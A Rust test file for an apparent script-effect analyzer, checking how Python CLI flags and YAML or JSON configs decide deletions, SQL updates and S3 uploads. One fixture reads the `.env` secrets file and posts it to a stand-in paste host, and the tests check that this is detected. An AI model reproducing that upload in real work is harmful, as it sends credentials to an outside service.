//! Python scripts written earlier and run with arguments: branches their
//! own flags rule out (argparse, click and typer options, `if not apply:
//! return`) do not happen, and configuration files they load (YAML, JSON)
//! give the values they use (`cfg["bucket"]`).

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::Value;

const TYPER_BACKFILL: &str = r#"import typer
from sqlalchemy import create_engine, text

app = typer.Typer()

DSN = "postgresql+psycopg://etl@pg-main.prod.example.internal:5432/core"


@app.command()
def main(
    batch: int = typer.Option(500, min=1),
    apply: bool = typer.Option(False, "--apply/--dry-run", help="write changes"),
) -> None:
    engine = create_engine(DSN)
    with engine.begin() as conn:
        rows = conn.execute(text("SELECT id FROM invoices LIMIT :n"), {"n": batch}).all()
        if not apply:
            typer.echo("dry run")
            return
        for (inv_id,) in rows:
            conn.execute(text("UPDATE invoices SET tax_region = 'EU' WHERE id = :id"), {"id": inv_id})


if __name__ == "__main__":
    app()
"#;

const SHARE_DEBUG: &str = r#"import argparse
import pathlib

import requests

ap = argparse.ArgumentParser()
ap.add_argument("paths", nargs="+", type=pathlib.Path)
ap.add_argument("--include-env", action="store_true")
args = ap.parse_args()

files = list(args.paths)
if args.include_env:
    files.append(pathlib.Path(".env"))
bundle = "\n".join(p.read_text() for p in files)
requests.post("https://paste.example.net", files={"file": ("d.txt", bundle.encode())})
"#;

/// The effects of running `script` (written earlier at `scripts/run.py`)
/// with `arguments`.
fn run_script(script: &str, arguments: &str) -> Vec<Value> {
    let written = [text_file(&at("scripts/run.py"), script)];
    effects_after(&written, &format!("python3 scripts/run.py {arguments}"))
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// True when an effect writes SQL containing `statement`.
fn runs_sql(effects: &[Value], statement: &str) -> bool {
    effects
        .iter()
        .any(|e| e.to_string().contains(statement) && e["effect"] != "read")
}

/// True when the effects read `.env` or send it.
fn touches_env_file(effects: &[Value]) -> bool {
    effects.iter().any(|e| e.to_string().contains(".env"))
}

#[test]
fn typer_dry_run_default_skips_the_rest_of_the_function() {
    let dry = run_script(TYPER_BACKFILL, "--batch 200");
    assert!(!runs_sql(&dry, "UPDATE invoices"), "{dry:?}");
    let explicit_dry = run_script(TYPER_BACKFILL, "--dry-run");
    assert!(
        !runs_sql(&explicit_dry, "UPDATE invoices"),
        "{explicit_dry:?}"
    );
    let applied = run_script(TYPER_BACKFILL, "--batch 200 --apply");
    assert!(runs_sql(&applied, "UPDATE invoices"), "{applied:?}");
}

#[test]
fn argparse_store_true_branch_needs_its_flag() {
    let without = run_script(SHARE_DEBUG, "logs/a.log");
    assert!(!touches_env_file(&without), "{without:?}");
    let with = run_script(SHARE_DEBUG, "logs/a.log --include-env");
    assert!(touches_env_file(&with), "{with:?}");
    // An abbreviation argparse accepts may be the flag: both branches stay.
    let abbreviated = run_script(SHARE_DEBUG, "logs/a.log --include");
    assert!(touches_env_file(&abbreviated), "{abbreviated:?}");
}

#[test]
fn arguments_not_known_keep_both_branches() {
    let dynamic = run_script(SHARE_DEBUG, "logs/a.log $EXTRA_FLAGS");
    assert!(touches_env_file(&dynamic), "{dynamic:?}");
    let typer_dynamic = run_script(TYPER_BACKFILL, "\"$@\"");
    assert!(
        runs_sql(&typer_dynamic, "UPDATE invoices"),
        "{typer_dynamic:?}"
    );
}

#[test]
fn store_false_boolean_optional_and_string_comparisons_decide_branches() {
    let script = r#"import argparse, shutil
p = argparse.ArgumentParser()
p.add_argument("--no-clean", dest="clean", action="store_false")
p.add_argument("--cache", action=argparse.BooleanOptionalAction, default=True)
p.add_argument("--env", default="staging")
args = p.parse_args()
if args.clean:
    shutil.rmtree("build")
if not args.cache:
    shutil.rmtree("cache")
if args.env == "prod":
    shutil.rmtree("releases")
elif args.env != "staging":
    shutil.rmtree("other")
else:
    shutil.rmtree("staging-out")
"#;
    let deleted = |effects: &[Value], dir: &str| {
        effects
            .iter()
            .any(|e| e["effect"] == "delete" && e["path"] == at(dir).as_str())
    };
    let plain = run_script(script, "");
    assert!(deleted(&plain, "build"), "{plain:?}");
    assert!(!deleted(&plain, "cache"), "{plain:?}");
    assert!(!deleted(&plain, "releases"), "{plain:?}");
    assert!(!deleted(&plain, "other"), "{plain:?}");
    assert!(deleted(&plain, "staging-out"), "{plain:?}");
    let flagged = run_script(script, "--no-clean --no-cache --env=prod");
    assert!(!deleted(&flagged, "build"), "{flagged:?}");
    assert!(deleted(&flagged, "cache"), "{flagged:?}");
    assert!(deleted(&flagged, "releases"), "{flagged:?}");
    assert!(!deleted(&flagged, "staging-out"), "{flagged:?}");
}

#[test]
fn click_flags_and_module_level_exits_decide_branches() {
    let click = r#"import click, shutil

@click.command()
@click.option("--force", is_flag=True)
def main(force):
    if force:
        shutil.rmtree("dist")

main()
"#;
    let deletes_dist = |effects: &[Value]| effects.iter().any(|e| e["effect"] == "delete");
    assert!(!deletes_dist(&run_script(click, "")));
    assert!(deletes_dist(&run_script(click, "--force")));
    let exits = r#"import sys, argparse, os
ap = argparse.ArgumentParser()
ap.add_argument("--yes", action="store_true")
args = ap.parse_args()
if not args.yes:
    print("pass --yes to delete")
    sys.exit(1)
os.remove("data.db")
"#;
    assert!(!deletes_dist(&run_script(exits, "")));
    assert!(deletes_dist(&run_script(exits, "--yes")));
}

#[test]
fn names_assigned_again_are_not_decided() {
    let script = r#"import argparse, shutil
ap = argparse.ArgumentParser()
ap.add_argument("--force", action="store_true")
args = ap.parse_args()
args.force = args.force or input("sure? ") == "y"
if args.force:
    shutil.rmtree("dist")
"#;
    let effects = run_script(script, "");
    assert!(
        effects.iter().any(|e| e["effect"] == "delete"),
        "{effects:?}"
    );
}

#[test]
fn dict_entries_strips_and_tree_walks_give_upload_targets() {
    let code = r#"import pathlib, boto3
cfg = {"src": "exports", "bucket": "rk-home-backups", "prefix": "/qf/"}
src = pathlib.Path(cfg["src"])
bucket, prefix = cfg["bucket"], cfg.get("prefix", "").strip("/")
s3 = boto3.client("s3", region_name=cfg.get("region", "us-east-1"))
for path in sorted(p for p in src.rglob("*") if p.is_file()):
    s3.upload_file(str(path), bucket, f"{prefix}/{path.name}")
"#;
    let line = format!("python3 -c '{code}'");
    let found = effects(&line);
    let upload = found
        .iter()
        .find(|e| e["effect"] == "request")
        .unwrap_or_else(|| panic!("no upload: {found:?}"));
    let text = upload.to_string();
    assert!(text.contains("rk-home-backups"), "{text}");
    assert!(text.contains(&at("exports/**/*")), "{text}");
}

const SYNC: &str = r#"import argparse
import json
import pathlib

import boto3
import yaml

ap = argparse.ArgumentParser()
ap.add_argument("-c", "--config", required=True, type=pathlib.Path)
ap.add_argument("--dry-run", action="store_true")
args = ap.parse_args()

text = args.config.read_text()
cfg = json.loads(text) if args.config.suffix == ".json" else yaml.safe_load(text)
src = pathlib.Path(cfg["src"])
bucket, prefix = cfg["bucket"], cfg.get("prefix", "").strip("/")

s3 = boto3.client("s3")
for path in sorted(p for p in src.rglob("*") if p.is_file()):
    key = f"{prefix}/{path.relative_to(src).as_posix()}"
    if not args.dry_run:
        s3.upload_file(str(path), bucket, key)
"#;

/// The upload `effects` make, as text.
fn upload_text(effects: &Value) -> String {
    effects
        .as_array()
        .into_iter()
        .flatten()
        .find(|e| e["effect"] == "request")
        .map(Value::to_string)
        .unwrap_or_default()
}

#[test]
fn yaml_and_json_configs_written_earlier_name_the_bucket_and_tree() {
    for (config, text) in [
        (
            "config/job.yaml",
            "# nightly\nsrc: exports\nbucket: \"rk-home-backups\"\nprefix: qf/exports\n",
        ),
        (
            "config/job.json",
            "{\"src\": \"exports\", \"bucket\": \"rk-home-backups\"}",
        ),
    ] {
        let written = [
            text_file(&at("scripts/sync.py"), SYNC),
            text_file(&at(config), text),
        ];
        let found = effects_after(&written, &format!("python3 scripts/sync.py -c {config}"));
        let upload = upload_text(&found);
        assert!(upload.contains("rk-home-backups"), "{config}: {found}");
        assert!(upload.contains(&at("exports/**/*")), "{config}: {found}");
        // A dry run uploads nothing.
        let dry = effects_after(
            &written,
            &format!("python3 scripts/sync.py --config={config} --dry-run"),
        );
        assert!(upload_text(&dry).is_empty(), "{config}: {dry}");
    }
}

#[test]
fn configs_not_known_leave_the_bucket_unknown() {
    let written = [text_file(&at("scripts/sync.py"), SYNC)];
    let found = effects_after(&written, "python3 scripts/sync.py -c config/job.yaml");
    assert!(!upload_text(&found).contains("rk-home-backups"), "{found}");
}

#[test]
fn configs_of_two_formats_are_both_read_in_the_order_the_code_loads_them() {
    // The JSON load comes first in the code, the YAML one after it.
    let script = "import json, yaml, boto3\nsettings = json.load(open(\"config/settings.json\"))\njob = yaml.safe_load(open(\"config/job.yaml\"))\nboto3.client(\"s3\").upload_file(job[\"file\"], settings[\"bucket\"], \"k\")\n";
    let written = [
        text_file(&at("scripts/two.py"), script),
        text_file(
            &at("config/settings.json"),
            "{\"bucket\": \"rk-home-backups\"}",
        ),
        text_file(&at("config/job.yaml"), "file: exports/members.csv\n"),
    ];
    let found = effects_after(&written, "python3 scripts/two.py");
    let upload = upload_text(&found);
    assert!(upload.contains("rk-home-backups"), "{found}");
    assert!(upload.contains(&at("exports/members.csv")), "{found}");
}
